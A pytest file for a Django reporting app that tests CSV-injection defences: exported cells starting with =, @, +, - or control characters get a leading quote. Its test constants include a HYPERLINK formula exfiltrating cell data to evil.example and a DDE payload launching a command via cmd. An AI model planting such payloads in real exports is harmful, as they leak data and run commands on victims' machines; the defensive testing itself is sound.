"""A report's CSV opened in a spreadsheet runs nothing: a version such as =HYPERLINK(...) or a
service named @SUM(...) arrives as text (OWASP CSV injection: a leading single quote), and
every CSV the code writes goes through apps.core.csv_export."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import time_machine
from django.conf import settings
from django.urls import reverse

from apps.core.actors import Actor
from apps.core.csv_export import neutralise
from apps.reports import services
from apps.reports.schedule import period_containing
from apps.rollouts import transitions
from tests.factories import ServiceFactory, make_release

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (LINK, "'" + LINK),
        (SUM, "'" + SUM),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("2.0.3", "2.0.3"),
        ("AI Orchestra", "AI Orchestra"),
        (-0.5, -0.5),  # a number stays a number
        (3, 3),
    ],
)
def test_cells_that_would_start_a_formula_are_quoted(cell, written) -> None:
    assert neutralise(cell) == written


@pytest.mark.django_db
def test_the_report_csv_neutralises_typed_names(client, victor, production) -> None:
    service = ServiceFactory(name=SUM, slug="sums")
    with time_machine.travel(datetime(2026, 11, 17, 10, tzinfo=UTC), tick=False):
        release = make_release(service=service, environment=production, version=LINK)
        transitions.start(release, actor=Actor.system("tests"))
    period = period_containing("weekly", date(2026, 11, 16), "UTC")
    with time_machine.travel(datetime(2026, 11, 23, 9, tzinfo=UTC), tick=False):
        report, _ = services.obtain_report(service, period)

    client.force_login(victor)
    response = client.get(reverse("reports:csv", args=[report.pk]), {"table": "releases"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    [row] = rows
    assert row["version"] == "'" + LINK
    assert row["service"] == "'" + SUM
    assert row["traffic_percentage"] == "5"  # numbers untouched

    dora = client.get(reverse("reports:csv", args=[report.pk]), {"table": "dora"})
    services_column = [r["service"] for r in csv.DictReader(io.StringIO(dora.content.decode()))]
    assert services_column == ["'" + SUM]  # a service report: its scope row only


def test_every_csv_writer_is_the_neutralising_one() -> None:
    """A new export written with the csv module directly would skip the quoting."""
    helper = Path(settings.BASE_DIR) / "apps" / "core" / "csv_export.py"
    writers = re.compile(r"csv\.(writer|DictWriter)\b")
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for folder in ("apps", "rolloutdesk", "scripts")
        for path in (Path(settings.BASE_DIR) / folder).rglob("*.py")
        if path != helper and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
